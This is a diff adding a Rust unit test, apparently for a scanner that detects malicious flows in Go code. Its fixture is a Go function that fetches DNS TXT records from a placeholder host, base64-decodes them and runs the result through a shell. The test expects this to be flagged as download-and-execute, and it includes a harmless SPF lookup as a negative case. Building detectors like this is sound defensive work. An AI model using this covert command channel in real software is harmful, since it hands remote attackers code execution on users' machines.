@@ -248,3 +248,16 @@ fn go_wipe_command_kept_reversed_and_turned_by_a_swap_loop_is_wipe_command() {
         out[0].finding.note
     );
 }
+
+#[test]
+fn go_dns_txt_answer_decoded_and_run_by_a_shell_is_download_exec() {
+    let go = "package d\n\nimport (\n\t\"encoding/base64\"\n\t\"net\"\n\t\"os/exec\"\n\t\"strings\"\n)\n\n\
+              func poll() {\n\trecs, _ := net.LookupTXT(\"t.zone.invalid\")\n\
+              \traw, _ := base64.StdEncoding.DecodeString(strings.Join(recs, \"\"))\n\
+              \texec.Command(\"/bin/sh\", \"-c\", string(raw)).Start()\n}\n";
+    let out = flows(&[("d/init.go", go)]);
+    assert_eq!(ends(&out), vec![(RuleId::DownloadExec, "d/init.go".to_owned(), 13, Some("d/init.go".to_owned()), 11)]);
+    // A TXT record only read (an SPF check) runs nothing.
+    let spf = "package d\n\nimport (\n\t\"fmt\"\n\t\"net\"\n)\n\nfunc spf() {\n\trecs, _ := net.LookupTXT(\"example.invalid\")\n\tfmt.Println(recs)\n}\n";
+    assert_eq!(ends(&flows(&[("d/spf.go", spf)])), vec![]);
+}
